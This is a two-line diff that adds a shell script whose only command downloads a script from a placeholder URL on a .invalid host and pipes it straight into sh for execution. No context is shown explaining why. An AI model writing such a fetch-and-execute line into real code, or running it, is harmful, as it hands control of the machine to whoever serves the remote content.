@@ -1,0 +1,2 @@
+#!/bin/sh
+sh -c "$(curl -fsSL https://short-link.invalid/x)"
